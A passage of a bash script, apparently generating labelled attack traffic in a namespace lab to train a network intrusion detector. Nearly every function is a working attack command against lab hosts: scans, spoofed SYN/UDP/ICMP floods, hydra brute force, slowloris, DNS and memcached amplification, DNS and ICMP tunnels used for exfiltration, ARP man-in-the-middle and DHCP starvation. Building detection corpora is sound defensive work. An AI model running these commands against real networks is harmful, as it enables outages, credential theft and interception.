	run_in 180 "$NS_ATTACKER" "${SCAN[@]}" -sS -sU -T4 --max-retries 1 -p T:8081-8999,U:9999 "$VICTIM"
}
v_port_scan_xmas_top1000() {
	lan_attack "$ATTACKER" "$VICTIM" "nmap Xmas scan (FIN, PSH and URG, no SYN) of the 1000 most common TCP ports: closed ports answer RST, open and filtered ones nothing"
	run_in 180 "$NS_ATTACKER" "${SCAN[@]}" -sX -T4 --top-ports 1000 "$VICTIM"
}
v_port_scan_fin_ipv6_top200() {
	lan_attack "$ATTACKER6" "$VICTIM6" "nmap FIN scan over IPv6 of the 200 most common TCP ports: closed ports answer RST, open and filtered ones nothing"
	run_in 180 "$NS_ATTACKER" "${SCAN[@]}" -6 -sF -T4 --top-ports 200 "$VICTIM6"
}
v_port_scan_ack_top1000() {
	lan_attack "$ATTACKER" "$VICTIM" "nmap ACK scan (firewall mapping) of the 1000 most common TCP ports: every unfiltered port answers RST, filtered ones nothing"
	run_in 180 "$NS_ATTACKER" "${SCAN[@]}" -sA -T4 --top-ports 1000 "$VICTIM"
}

# ---------------------------------------------------------------- syn_flood
v_syn_flood_ipv6_open_port() {
	lan_attack "$ATTACKER6" "$VICTIM6" "2400 SYNs over IPv6 to the open web port at 600/s from changing source ports (a raw socket: hping3 has no IPv6); the victim answers each with a SYN-ACK, which the attacker's kernel resets"
	run_in 40 "$NS_ATTACKER" "$PY" "$LABTOOLS/syn_flood.py" "$ATTACKER6" "$VICTIM6" 80 600 2400
}
v_syn_flood_open_port_fast() {
	lan_attack "$ATTACKER" "$VICTIM" "4000 SYNs to the open port 80 at up to 10000/s: the victim answers each with a SYN-ACK, the attacker's kernel resets it"
	hping 60 -S -p 80 -c 4000 -i u100 "$VICTIM"
}
v_syn_flood_open_port_rate_limited() {
	lan_attack "$ATTACKER" "$VICTIM" "3000 SYNs to the open port 80 at 500/s for 6 s: SYN-ACK from the victim, RST from the attacker's kernel"
	hping 60 -S -p 80 -c 3000 -i u2000 "$VICTIM"
}
v_syn_flood_closed_port() {
	lan_attack "$ATTACKER" "$VICTIM" "5000 SYNs to the closed port 81 at up to 5000/s: the victim answers each with RST"
	hping 60 -S -p 81 -c 5000 -i u200 "$VICTIM"
}
v_syn_flood_filtered_port() {
	lan_attack "$ATTACKER" "$VICTIM" "8000 SYNs to the firewalled port 8081 at up to 5000/s: dropped, no answer"
	hping 60 -S -p 8081 -c 8000 -i u200 "$VICTIM"
}
v_syn_flood_spoofed_random() {
	lan_attack "" "$VICTIM" "8000 SYNs to port 80 from random forged source addresses at up to 5000/s; the victim has no route back to them, so no SYN-ACK appears"
	SPOOF=true
	hping 60 -S -p 80 --rand-source -c 8000 -i u200 "$VICTIM"
}
v_syn_flood_random_ports_fast() {
	lan_attack "$ATTACKER" "$VICTIM" "30000 SYNs at up to 20000/s, each to the next port from 1000 up (a flood walking the ports): RST from closed ports, silence from the firewalled 8081-8999, SYN-ACK (and the attacker's RST) from 8080"
	hping 60 -S -p ++1000 -c 30000 -i u50 "$VICTIM"
}
v_syn_flood_ack_flood() {
	lan_attack "$ATTACKER" "$VICTIM" "12000 bare ACKs to the open port 80 at up to 5000/s, no handshake: the victim resets each"
	hping 60 -A -p 80 -c 12000 -i u200 "$VICTIM"
}
# hping3 walking the ports once at 2000/s: a scan by behaviour (each port
# once, 6000 in 3 s, under a flood's pace), though hping3 is a flood tool.
v_port_scan_hping3_port_sweep() {
	lan_attack "$ATTACKER" "$VICTIM" "6000 SYNs at up to 2000/s, each to the next port from 1000 up (hping3 -p ++1000): every port once, a sequential scan; RST from closed ports, silence from the firewalled 8081-8999, SYN-ACK (and the attacker's RST) from 8080"
	hping 60 -S -p ++1000 -c 6000 -i u500 "$VICTIM"
}

# ---------------------------------------------------------------- brute_force
# hydra writes hydra.restore into its working directory: run it in $RUN.
# -w 2: hydra 9.4 hangs on a connection sshd closed after MaxAuthTries (6)
# failures; after 2 s it gives up on it and reconnects.
hydra_in() { # hydra_in SECS ARGS...
	local secs=$1
	shift
	cd "$RUN"
	run_in "$secs" "$NS_ATTACKER" hydra -I -L "$RUN/users.txt" -P "$RUN/words.txt" "$@"
	cd "$REPO"
}
v_brute_force_ssh_slow_t1() {
	lan_attack "$ATTACKER" "$VICTIM" "hydra against sshd with one task and 2 s between attempts (-c 2), for 2 minutes: new SSH connections every few attempts, one password guess every 2-3 s"
	hydra_in 120 -t 1 -c 2 -w 5 "ssh://$VICTIM"
}
v_brute_force_ftp_burst_12() {
	lan_attack "$ATTACKER" "$VICTIM" "12 FTP logins at once, one guess a connection, as Mirai tries telnet credentials: 12 curl clients started together, each refused after vsftpd's one-second delay"
	local i
	note "for i in 1..12: curl -s -o /dev/null ftp://admin:guess\$i@$VICTIM/ (all at once)"
	for i in $(seq 1 12); do
		bg_in 20 "$NS_ATTACKER" curl -s -o /dev/null "ftp://admin:guess$i@$VICTIM/"
	done
	wait_all
}
v_brute_force_ssh_t4() {
	lan_attack "$ATTACKER" "$VICTIM" "hydra against sshd with 4 parallel tasks for 90 s: many short SSH connections, each ending after a few failed passwords"
	hydra_in 90 -t 4 -w 2 "ssh://$VICTIM"
}
v_brute_force_ssh_t16() {
	lan_attack "$ATTACKER" "$VICTIM" "hydra against sshd with 16 parallel tasks for 60 s"
	hydra_in 60 -t 16 -w 2 "ssh://$VICTIM"
}
v_brute_force_ssh_ipv6() {
	lan_attack "$ATTACKER6" "$VICTIM6" "hydra against sshd over IPv6 with 4 parallel tasks for 60 s"
	hydra_in 60 -6 -t 4 -w 2 "ssh://[$VICTIM6]"
}
v_brute_force_ftp_t4() {
	lan_attack "$ATTACKER" "$VICTIM" "hydra against vsftpd with 4 parallel tasks for 90 s: USER/PASS pairs answered 530 after a 1 s delay, a new connection after 3 failures"
	hydra_in 90 -t 4 "ftp://$VICTIM"
}
v_brute_force_http_basic_auth() {
	lan_attack "$ATTACKER" "$VICTIM" "hydra http-get against the HTTP Basic login of /admin/ on port 80 with 2 tasks: 40 passwords for admin, one connection a guess, each refused 401"
	head -40 "$RUN/words.txt" >"$RUN/words40.txt"
	cd "$RUN"
	run_in 30 "$NS_ATTACKER" hydra -I -l admin -P "$RUN/words40.txt" -t 2 -s 80 "$VICTIM" http-get /admin/
	cd "$REPO"
}
v_brute_force_http_post_t4() {
	lan_attack "$ATTACKER" "$VICTIM" "hydra http-post-form against the login form on port 8080 with 4 parallel tasks for 90 s: one POST /login per connection, answered 200 Login failed after 1 s"
	hydra_in 90 -t 4 -s 8080 "$VICTIM" http-post-form "/login:user=^USER^&pass=^PASS^:F=Login failed"
}
v_brute_force_http_post_t16() {
	lan_attack "$ATTACKER" "$VICTIM" "hydra http-post-form against the login form on port 8080 with 16 parallel tasks for 60 s"
	hydra_in 60 -t 16 -s 8080 "$VICTIM" http-post-form "/login:user=^USER^&pass=^PASS^:F=Login failed"
}

# ---------------------------------------------------------------- slowloris
v_slowloris_headers_300() {
	lan_attack "$ATTACKER" "$VICTIM" "slowhttptest slowloris: 300 connections opened at 50/s, each sending an unfinished GET and one more header line every 10 s for 75 s"
	run_in 120 "$NS_ATTACKER" slowhttptest -c 300 -H -i 10 -r 50 -l 75 -t GET -x 24 -p 3 -u "http://$VICTIM/index.html"
}
v_slowloris_headers_small_80() {
	lan_attack "$ATTACKER" "$VICTIM" "a small slowloris: 80 connections opened at 10/s, a header line every 10 s for 75 s"
	run_in 120 "$NS_ATTACKER" slowhttptest -c 80 -H -i 10 -r 10 -l 75 -t GET -x 24 -p 3 -u "http://$VICTIM/index.html"
}
v_slowloris_slow_read() {
	lan_attack "$ATTACKER" "$VICTIM" "slowhttptest slow read: 200 connections request a 600 kB file and advertise a 512-1024 byte window, reading 32 bytes every 5 s; the victim sends small segments and window probes"
	run_in 120 "$NS_ATTACKER" slowhttptest -X -c 200 -r 40 -w 512 -y 1024 -n 5 -z 32 -k 3 -l 75 -p 3 -u "http://$VICTIM/download.bin"
}
v_slowloris_slow_post() {
	lan_attack "$ATTACKER" "$VICTIM" "slowhttptest slow POST (R-U-Dead-Yet) on the login form: 200 connections announce an 8 kB body and send it 10 bytes every 10 s for 75 s"
	run_in 120 "$NS_ATTACKER" slowhttptest -B -c 200 -i 10 -r 40 -s 8192 -x 10 -l 75 -t POST -p 3 -u "http://$VICTIM:8080/login"
}
v_slowloris_headers_ipv6() {
	lan_attack "$ATTACKER6" "$VICTIM6" "slowloris over IPv6: 150 connections opened at 30/s, a header line every 10 s for 60 s"
	run_in 100 "$NS_ATTACKER" slowhttptest -c 150 -H -i 10 -r 30 -l 60 -t GET -x 24 -p 3 -u "http://[$VICTIM6]/index.html"
}

# ---------------------------------------------------------------- http_flood
v_http_flood_ab_one_source() {
	lan_attack "$ATTACKER" "$VICTIM" "ab: 1000 GETs of a small page, 20 at a time, a new connection each, as fast as nginx answers (a fraction of a second)"
	run_in 60 "$NS_ATTACKER" ab -q -n 1000 -c 20 -s 10 "http://$VICTIM/small.html"
}
v_http_flood_ab_keepalive() {
	lan_attack "$ATTACKER" "$VICTIM" "ab -k: 6000 GETs of a small page over 20 keep-alive connections (nginx closes each after 100 requests)"
	run_in 60 "$NS_ATTACKER" ab -q -k -n 6000 -c 20 -s 10 "http://$VICTIM/small.html"
}
v_http_flood_many_sources() {
	TOOL="from each of the 8 client addresses: up to 200 × (curl -s -o /dev/null --interface SRC http://$VICTIM/small.html; sleep 0.1) for 20 s"
	DESC="HTTP flood from many sources: every client address requests a small page back to back, about 8 a second each, next to its normal traffic"
	ATTACKERS=$(client_addrs) MACS=$(client_macs) TARGETS=$VICTIM SEL="host $VICTIM and tcp port 80" AFTER=0
	BASELINE=true # 64 requests a second in all: above this lab's normal, under any absolute floor
	clients_loop 25 curl_loop "http://$VICTIM/small.html" 0.1 200 $((EPOCHSECONDS + 20))
}
v_http_flood_slow_steady() {
	TOOL="up to 2400 × (curl -s -o /dev/null http://$VICTIM/small.html; sleep 0.04) for 120 s"
	lan_attack "$ATTACKER" "$VICTIM" "a steady one-source HTTP flood: about 20 GETs a second, each on a new connection, for 2 minutes"
	BASELINE=true # 20 requests a second: a flood only against this lab's baseline
	bg_in 125 "$NS_ATTACKER" bash -c 'curl_loop "$@"' _ "$ATTACKER" "http://$VICTIM/small.html" 0.04 2400 $((EPOCHSECONDS + 120))
	wait_all
}
v_http_flood_request_burst() {
	TOOL="from each of the 8 client addresses: up to 200 × (curl -s -o /dev/null http://$VICTIM/small.html; sleep 0.2) for 30 s"
	DESC="a burst of small requests from every client: each asks for a small page about 4 times a second for 30 s, ten times the normal request rate"
	ATTACKERS=$(client_addrs) MACS=$(client_macs) TARGETS=$VICTIM SEL="host $VICTIM and tcp port 80" AFTER=0
	BASELINE=true # 32 requests a second in all: a flood only against this lab's baseline
	clients_loop 35 curl_loop "http://$VICTIM/small.html" 0.2 200 $((EPOCHSECONDS + 30))
}
v_http_flood_ab_ipv6() {
	lan_attack "$ATTACKER6" "$VICTIM6" "ab over IPv6: 1500 GETs of a small page, 20 at a time, a new connection each"
	run_in 60 "$NS_ATTACKER" ab -q -n 1500 -c 20 -s 10 "http://[$VICTIM6]/small.html"
}

# ---------------------------------------------------------------- udp_flood
v_udp_flood_fast() {
	lan_attack "$ATTACKER" "$VICTIM" "10000 UDP datagrams of 200 bytes to the closed port 7777 as fast as hping3 sends (-i u50); the victim answers a few with rate-limited ICMP port unreachable"
	hping 60 --udp -p 7777 -d 200 -c 10000 -i u50 "$VICTIM"
}
v_udp_flood_dns_query_flood() {
	lan_attack "$ATTACKER" "$ROUTER" "a DNS query flood (water torture) against the LAN's resolver: dnsperf sends 600 queries a second for 12 s for random names under lab.test (12 random letters each), each answered NXDOMAIN"
	awk 'BEGIN { srand(7); for (i = 0; i < 50000; i++) { n = ""; for (j = 0; j < 12; j++) n = n sprintf("%c", 97 + int(rand() * 26)); print n ".lab.test A" } }' >"$RUN/water.txt"
	run_in 40 "$NS_ATTACKER" dnsperf -s "$ROUTER" -d "$RUN/water.txt" -Q 600 -l 12 -c 4 -q 500
}
v_udp_flood_rate_limited() {
	lan_attack "$ATTACKER" "$VICTIM" "10000 UDP datagrams of 200 bytes to port 7777 at 1000/s for 10 s"
	hping 60 --udp -p 7777 -d 200 -c 10000 -i u1000 "$VICTIM"
}
v_udp_flood_spoofed_random() {
	lan_attack "" "$VICTIM" "12000 UDP datagrams to port 7777 from random forged source addresses at up to 5000/s; no answer can go back"
	SPOOF=true
	hping 60 --udp -p 7777 -d 200 --rand-source -c 12000 -i u200 "$VICTIM"
}
v_udp_flood_filtered_port() {
	lan_attack "$ATTACKER" "$VICTIM" "12000 UDP datagrams to the firewalled port 9999 at up to 5000/s: dropped, no answer"
	hping 60 --udp -p 9999 -d 200 -c 12000 -i u200 "$VICTIM"
}
v_udp_flood_ipv6_python() {
	lan_attack "$ATTACKER6" "$VICTIM6" "12000 UDP datagrams of 200 bytes over IPv6 to port 7777 at 2000/s from one socket; rate-limited ICMPv6 port unreachable back"
	run_in 60 "$NS_ATTACKER" "$PY" "$LABTOOLS/udp_flood.py" "$VICTIM6" 7777 200 2000 12000
}

# ---------------------------------------------------------------- icmp_flood
v_icmp_flood_fast() {
	lan_attack "$ATTACKER" "$VICTIM" "6000 ICMP echo requests at up to 10000/s, each answered by the victim"
	hping 60 --icmp -d 56 -c 6000 -i u100 "$VICTIM"
}
v_icmp_flood_rate_limited() {
	lan_attack "$ATTACKER" "$VICTIM" "6000 ICMP echo requests at 1000/s for 6 s, each answered"
	hping 60 --icmp -d 56 -c 6000 -i u1000 "$VICTIM"
}
v_icmp_flood_spoofed_random() {
	lan_attack "" "$VICTIM" "12000 ICMP echo requests from random forged source addresses at up to 5000/s; the replies have no route"
	SPOOF=true
	hping 60 --icmp -d 56 --rand-source -c 12000 -i u200 "$VICTIM"
}
v_icmp_flood_ping_flood() {
	lan_attack "$ATTACKER" "$VICTIM" "ping -f: 8000 echo requests, each sent when the last reply came"
	run_in 60 "$NS_ATTACKER" ping -q -f -c 8000 "$VICTIM"
}
v_icmp_flood_ping6_flood() {
	lan_attack "$ATTACKER6" "$VICTIM6" "ping -6 -f: 8000 ICMPv6 echo requests, each sent when the last reply came"
	run_in 60 "$NS_ATTACKER" ping -6 -q -f -c 8000 "$VICTIM6"
}

# ---------------------------------------------------------------- dns_amplification
AMP_DESC="the attacker, behind the router, sends small EDNS queries to open dnsmasq resolvers with the victim's forged address; the LAN sees only the answers arriving at the victim (and its rate-limited ICMP port unreachable)"
v_dns_amplification_txt_4_reflectors() {
	DESC="DNS amplification through 4 reflectors: 45-byte TXT queries, 1.1 kB answers, 2000 each at 500/s; $AMP_DESC"
	reflect "$RUN/query-txt.bin" 53 2000 u2000 "${REFLECTORS[@]}"
}
v_dns_amplification_txt_1_reflector_slow() {
	DESC="slow DNS amplification through one reflector: TXT queries at 100/s for 30 s; $AMP_DESC"
	reflect "$RUN/query-txt.bin" 53 3000 u10000 "${REFLECTORS[0]}"
}
v_dns_amplification_any_2_reflectors() {
	DESC="DNS amplification with ANY queries through 2 reflectors: 45-byte queries, 560-byte answers with TXT, A, AAAA and MX records, 3000 each at 500/s; $AMP_DESC"
	reflect "$RUN/query-any.bin" 53 3000 u2000 "${REFLECTORS[@]:0:2}"
}
v_dns_amplification_txt_2_reflectors_fast() {
	DESC="fast DNS amplification through 2 reflectors: TXT queries at 2000/s each for 2 s; $AMP_DESC"
	reflect "$RUN/query-txt.bin" 53 4000 u500 "${REFLECTORS[@]:2:2}"
}

# ---------------------------------------------------------------- reflection
REFL_DESC="sent by the attacker behind the router with the victim's forged address; the LAN sees only the answers arriving at the victim (and its rate-limited ICMP port unreachable)"
v_reflection_memcached_stats() {
	DESC="memcached UDP reflection: 15-byte 'stats' requests to 2 memcached servers, each answered with about 2 kB of statistics in 2 datagrams, 3000 each at 500/s; $REFL_DESC"
	reflect "$RUN/mc-stats.bin" 11211 3000 u2000 "${MEMCACHED[@]}"
}
v_reflection_memcached_get() {
	DESC="memcached UDP reflection: 17-byte 'get amp' requests for a 20 kB value, each answered with 15 datagrams of 1.4 kB, 400 to each of 2 servers at 100/s; $REFL_DESC"
	reflect "$RUN/mc-get.bin" 11211 400 u10000 "${MEMCACHED[@]}"
}
v_reflection_chargen() {
	DESC="chargen (UDP 19) reflection: 1-byte datagrams to 2 chargen servers, each answered with 0-512 characters, 4000 each at 500/s; $REFL_DESC"
	reflect "$RUN/chargen.bin" 19 4000 u2000 "${CHARGEN[@]}"
}
v_reflection_ssdp() {
	DESC="SSDP (UDP 1900) reflection: 94-byte M-SEARCH ssdp:all requests to 2 UPnP responders, each answered with 6 HTTP 200 datagrams of about 330 bytes, 1500 each at 500/s; $REFL_DESC"
	reflect "$RUN/ssdp.bin" 1900 1500 u2000 "${SSDP[@]}"
}

# ---------------------------------------------------------------- dns_tunnel
TUN_SRC_HOST=107 # client3
tunnel() { # tunnel SERVER SRC QTYPE RATE SECONDS [EDNS]
	ATTACKERS=$2 MACS=$(mac_of_addr $TUN_SRC_HOST) TARGETS=$1 SEL="host $1"
	run_in $(($5 + 10)) "${NS_CLIENTS[2]}" "$PY" "$LABTOOLS/dns_tunnel.py" client "$1" "$2" "$TUNNEL_DOMAIN" "$3" "$4" "$5" "${@:6}"
}
v_dns_tunnel_slow_txt() {
	DESC="a DNS tunnel from a LAN client straight to an outside DNS server: one TXT query a second for 2 minutes, names of about 220 characters of base32 data, answers of about 250 characters"
	tunnel "$OUTSIDE" "$LAN4.$TUN_SRC_HOST" TXT 1 120
}
v_dns_tunnel_fast_null() {
	DESC="a fast DNS tunnel: 25 NULL queries a second for 40 s with base32 names, answered with about 280 bytes of raw data"
	tunnel "$OUTSIDE" "$LAN4.$TUN_SRC_HOST" NULL 25 40
}
v_dns_tunnel_txt_large() {
	DESC="a DNS tunnel with large answers: 5 EDNS TXT queries a second for 60 s, answered with about 1 kB of base32 text"
	tunnel "$OUTSIDE" "$LAN4.$TUN_SRC_HOST" TXT 5 60 4096
}
v_dns_tunnel_null_polling() {
	DESC="a DNS tunnel polling for downstream data, as iodine does when it has nothing to send: 4 NULL queries a second for 60 s with short names (a sequence label and 4 bytes in base32, 26 characters), each answered with about 450 bytes of raw data"
	tunnel "$OUTSIDE" "$LAN4.$TUN_SRC_HOST" NULL 4 60 0 4
}
v_dns_tunnel_ipv6_txt() {
	DESC="a DNS tunnel over IPv6: 5 EDNS TXT queries a second for 60 s to the outside server's IPv6 address"
	tunnel "$OUTSIDE6" "${LAN6}:$TUN_SRC_HOST" TXT 5 60 1232
}

# ---------------------------------------------------------------- arp_spoofing
BCAST=ff:ff:ff:ff:ff:ff
arpspoof() { # arpspoof INTERVAL ROUNDS CLAIM...
	run_in $(($(awk -v i="$1" -v r="$2" 'BEGIN { printf "%d", i * r }') + 30)) "$NS_ATTACKER" \
		"$PY" "$LABTOOLS/arpspoof.py" eth0 "$ATTACKER_MAC" "$@"
	neigh_flush
}
v_arp_spoofing_gateway_claim() {
	lan_attack "$ATTACKER" "$ROUTER" "ARP spoofing of the gateway: every second for 40 s a gratuitous ARP reply to the whole LAN says the router's address is at the attacker's MAC; the true address is re-announced at the end"
	arpspoof 1 40 "$ROUTER/$ROUTER_MAC@$ROUTER/$BCAST"
}
v_arp_spoofing_mitm_bidirectional() {
	local c1=$LAN4.101 c1mac
	c1mac=$(mac_of_addr 101)
	lan_attack "$ATTACKER" "$ROUTER,$VICTIM,$c1" "two-way ARP poisoning (man in the middle) for 40 s: unicast replies tell the victim that the router and a client are at the attacker's MAC and tell those two that the victim is; the attacker forwards the traffic it receives"
	nsx "$NS_ATTACKER" sysctl -qw net.ipv4.ip_forward=1
	arpspoof 1 40 "$ROUTER/$ROUTER_MAC@$VICTIM/$VICTIM_MAC" "$VICTIM/$VICTIM_MAC@$ROUTER/$ROUTER_MAC" \
		"$c1/$c1mac@$VICTIM/$VICTIM_MAC" "$VICTIM/$VICTIM_MAC@$c1/$c1mac"
	nsx "$NS_ATTACKER" sysctl -qw net.ipv4.ip_forward=0
}
v_arp_spoofing_slow_claims() {
	lan_attack "$ATTACKER" "$ROUTER" "slow ARP spoofing of the gateway: a gratuitous reply claiming the router's address every 10 s for 2 minutes"
	arpspoof 10 12 "$ROUTER/$ROUTER_MAC@$ROUTER/$BCAST"
}
v_arp_spoofing_arping_gratuitous() {
	lan_attack "$ATTACKER" "$ROUTER" "arping -U -P: an unsolicited ARP reply every second for 40 s, broadcast, saying the router's address is at the attacker's MAC"
	run_in 70 "$NS_ATTACKER" arping -q -i eth0 -U -P -S "$ROUTER" -c 40 -W 1 "$ROUTER"
	neigh_flush
}
v_arp_spoofing_dsniff_arpspoof() {
	lan_attack "$ATTACKER" "$ROUTER" "dsniff's arpspoof poisoning one host: every 2 s for 30 s a unicast ARP reply tells the victim that the router's address is at the attacker's MAC; on exit it re-announces the true address"
	run_in 30 "$NS_ATTACKER" /usr/sbin/arpspoof -i eth0 -t "$VICTIM" "$ROUTER"
	sleep 6 # arpspoof re-ARPs the true address for a few seconds after the signal
	neigh_flush
}

# ---------------------------------------------------------------- icmp_tunnel
# ptunnel-ng carries TCP inside ICMP echo: its client on client3 pings the
# outside host, whose proxy forwards to a web service there (tunnel_web.py
# on 127.0.0.1:8000) and answers with echo replies carrying the data. The
# outside host's kernel answers the pings too, as a host does.
PT_SRC_HOST=107 # client3
ptunnel() { # ptunnel SECS CLIENT_CMD...: the tunnel up for CLIENT_CMD, run through localhost:2222 on client3
	local secs=$1
	shift
	ATTACKERS=$LAN4.$PT_SRC_HOST MACS=$(mac_of_addr $PT_SRC_HOST) TARGETS=$WAN_HOST SEL="icmp and host $WAN_HOST"
	bg_in $((secs + 20)) "$NS_WAN" "$PY" "$LABTOOLS/tunnel_web.py" 127.0.0.1 8000
	bg_in $((secs + 20)) "$NS_WAN" ptunnel-ng -r127.0.0.1 -R8000 -v 0
	bg_in $((secs + 20)) "${NS_CLIENTS[2]}" ptunnel-ng -p"$WAN_HOST" -l2222 -r127.0.0.1 -R8000 -v 0
	note "ptunnel-ng -r127.0.0.1 -R8000 (outside); ptunnel-ng -p$WAN_HOST -l2222 -r127.0.0.1 -R8000 (client3)"
	sleep 1
	run_in "$secs" "${NS_CLIENTS[2]}" "$@"
	kill "${ATK_PIDS[@]}" 2>/dev/null || true # timeout passes it on
	wait_all
}
v_icmp_tunnel_ptunnel_ng_download() {
	DESC="ptunnel-ng: a LAN client downloads 300 kB from an outside web service through an ICMP tunnel; the data comes back in echo replies of up to 1 kB, as fast as the tunnel's window allows"
	ptunnel 15 curl -s -o /dev/null --max-time 14 http://127.0.0.1:2222/bytes/300000
}
v_icmp_tunnel_ptunnel_ng_upload() {
	DESC="ptunnel-ng: a LAN client uploads 200 kB to an outside web service through an ICMP tunnel (exfiltration): the data goes out in echo requests, the replies carry the tunnel's acknowledgements"
	head -c 200000 /dev/urandom >"$RUN/exfil.bin"
	ptunnel 15 curl -s -o /dev/null --max-time 14 -X POST --data-binary "@$RUN/exfil.bin" http://127.0.0.1:2222/upload
}
v_icmp_tunnel_ptunnel_ng_polling() {
	DESC="ptunnel-ng as a command channel: a LAN client asks an outside web service for a few hundred bytes every 2 s for 90 s through an ICMP tunnel"
	# shellcheck disable=SC2016 # expanded by the inner bash
	ptunnel 95 bash -c 'for i in $(seq 45); do curl -s -o /dev/null --max-time 3 http://127.0.0.1:2222/bytes/$((200 + RANDOM % 400)); sleep 2; done'
}
v_icmp_tunnel_ptunnel_ng_rate_limited() {
	DESC="ptunnel-ng: a slow download through an ICMP tunnel, the outside service sending 12 kB a second for 35 s (about a dozen echo replies a second)"
	ptunnel 40 curl -s -o /dev/null --max-time 38 http://127.0.0.1:2222/bytes/420000/12000
}

# ---------------------------------------------------------------- dhcp_flood
# A DHCP server on the router for these variants only (the lab's hosts
# have static addresses): dnsmasq, DHCP alone (its DNS is off: the lab's
# other dnsmasq answers names), a pool of 40 addresses, 2-minute leases.
dhcp_server_start() { # dhcp_server_start [DNSMASQ_ARGS...]
	rm -f "$RUN/dhcp.leases"
	note dnsmasq --port=0 --dhcp-range="$LAN4.200,$LAN4.239,2m" "$@"
	ip netns exec "$NS_ROUTER" dnsmasq --keep-in-foreground --conf-file=/dev/null --port=0 --no-resolv --no-hosts \
		--user=root --bind-interfaces --interface=eth0 --dhcp-range="$LAN4.200,$LAN4.239,2m" \
		--dhcp-leasefile="$RUN/dhcp.leases" --pid-file="$RUN/dnsmasq-dhcp.pid" "$@" >>"$VLOG" 2>&1 &
	DHCP_PID=$!
	BG_PIDS+=("$DHCP_PID")
	sleep 1
}
dhcp_server_stop() {
	kill "$DHCP_PID" 2>/dev/null || true
	wait "$DHCP_PID" 2>/dev/null || true
	echo "leases taken: $(wc -l <"$RUN/dhcp.leases" 2>/dev/null || echo 0)" >>"$VLOG"
}
# attacker_link_limit on|off: the attacker's link held to 400 kbit/s by a
# token bucket, for flooders with no rate option (yersinia, flood_dhcpc6):
# unlimited, their seconds would not fit the corpus's size.
attacker_link_limit() {
	if [ "$1" = on ]; then
		note tc qdisc add dev eth0 root tbf rate 400kbit burst 4kb latency 50ms
		nsx "$NS_ATTACKER" tc qdisc add dev eth0 root tbf rate 400kbit burst 4kb latency 50ms
	else
		nsx "$NS_ATTACKER" tc qdisc del dev eth0 root
	fi
}
v_dhcp_flood_dhcpstarv() {
	lan_attack "$ATTACKER" "$ROUTER" "dhcpstarv from the attacker's own MAC for 45 s: one forged client hardware address after another, each taken through discover, offer, request and acknowledgement, against a server (dnsmasq, defaults) that pings an address before offering it; the 40-address pool runs dry"
	dhcp_server_start
	run_in 45 "$NS_ATTACKER" dhcpstarv -i eth0
	dhcp_server_stop
}
v_dhcp_flood_dhcpstarv_no_ping() {
	lan_attack "$ATTACKER" "$ROUTER" "dhcpstarv for 20 s against a server that offers without pinging first (dnsmasq --no-ping): the 40-address pool is drained in about 10 s, then the discovers go unanswered"
	dhcp_server_start --no-ping
	run_in 20 "$NS_ATTACKER" dhcpstarv -i eth0
	dhcp_server_stop
}
v_dhcp_flood_yersinia_forged_macs() {
	DESC="yersinia's DHCP DISCOVER flood for 8 s: every discover from a new forged MAC, asking for that MAC; the attacker's link is held to 400 kbit/s by a token bucket (about 150 discovers a second, where unlimited it sends 50,000): dnsmasq, which pings an address before offering it, offers two and leaves the rest unanswered"
	ATTACKERS="" MACS="" SPOOF=true TARGETS=$ROUTER SEL="udp dst port 67"
	attacker_link_limit on
	dhcp_server_start
	# (in RUN: yersinia writes yersinia.log where it runs)
	# shellcheck disable=SC2016 # expanded by the inner bash
	run_in 15 "$NS_ATTACKER" bash -c 'cd "$1" && sleep 8 | yersinia dhcp -attack 1 -interface eth0' _ "$RUN"
	attacker_link_limit off
	dhcp_server_stop
}
v_dhcp_flood_one_client_discover_flood() {
	lan_attack "$ATTACKER" "$ROUTER" "a DHCP request flood from one client: 600 discovers in 6 s, all from the attacker's MAC and for it, each with a new transaction id, as a broken or malicious client buries the server; dnsmasq offers the same address to each"
	dhcp_server_start
	run_in 30 "$NS_ATTACKER" "$PY" "$LABTOOLS/dhcp_flood.py" eth0 "$ATTACKER_MAC" 600 0.01 same
	dhcp_server_stop
}
v_dhcp_flood_flood_dhcpc6_ipv6() {
	DESC="THC's flood_dhcpc6 for 8 s: DHCPv6 solicits, each from a new forged MAC and link-local address with a DUID of that MAC, against dnsmasq's DHCPv6 on the router (40 addresses), which answers none of them; the attacker's link is held to 400 kbit/s by a token bucket (a few hundred solicits a second, where unlimited it sends 6,000)"
	ATTACKERS="" MACS="" SPOOF=true TARGETS=$ROUTER6 SEL="udp dst port 547"
	attacker_link_limit on
	dhcp_server_start --dhcp-range="${LAN6}:1000,${LAN6}:1027,64,2m"
	run_in 12 "$NS_ATTACKER" timeout -s INT 8 atk6-flood_dhcpc6 eth0
	attacker_link_limit off
	dhcp_server_stop
}

# ---------------------------------------------------------------- traffic_spike
# A spike is volume far beyond the trained baseline, whose busiest event is
# a backup curl limits to 250 kB/s on average (train/background): the
# kernel fills the receive buffer at link speed, so its busiest window
# carries 1.8 MB/s, 1300 packets a second. The detector calls a quarter
# beyond the busiest training window a spike; these send three to eight
# times it for 6-10 s. A transfer at the backup's pace is ordinary here
# (benign/backup-transfer).
v_traffic_spike_parallel_downloads() {
	TOOL="from each of the 8 client addresses: curl -s -o /dev/null --limit-rate 300K --interface SRC http://$VICTIM/backup.tar, repeated for 6 s"
	DESC="a traffic spike: every client downloads a large file for 6 s, curl limiting each to 300 kB/s on average (on the wire, bursts at link speed)"
	ATTACKERS=$(client_addrs) MACS=$(client_macs) TARGETS=$VICTIM SEL="host $VICTIM and tcp port 80" AFTER=0
	clients_loop 11 download_loop "http://$VICTIM/backup.tar" 300K $((EPOCHSECONDS + 6))
}
v_traffic_spike_bulk_push() {
	local src=$LAN4.102
	TOOL="python3 tcp_push.py $src $VICTIM 9000 6000000 10 (to nc -lk 9000 on the victim)"
	DESC="a traffic spike: one client pushes 6 MB/s to a port never used before (9000) on the victim for 10 s, one TCP connection"
	ATTACKERS=$src MACS=$(mac_of_addr 102) TARGETS=$VICTIM SEL="host $src and tcp port 9000" AFTER=0
	bg_in 20 "${NS_CLIENTS[0]}" "$PY" "$LABTOOLS/tcp_push.py" "$src" "$VICTIM" 9000 6000000 10
	wait_all
}
v_traffic_spike_ipv6_download() {
	local src=${LAN6}:104
	TOOL="curl --limit-rate 6000K --interface $src http://[$VICTIM6]/backup.tar, repeated for 10 s"
	DESC="a traffic spike over IPv6: one client downloads a large file at 6 MB/s for 10 s"
	ATTACKERS=$src MACS=$(mac_of_addr 104) TARGETS=$VICTIM6 SEL="host $src and tcp port 80" AFTER=0
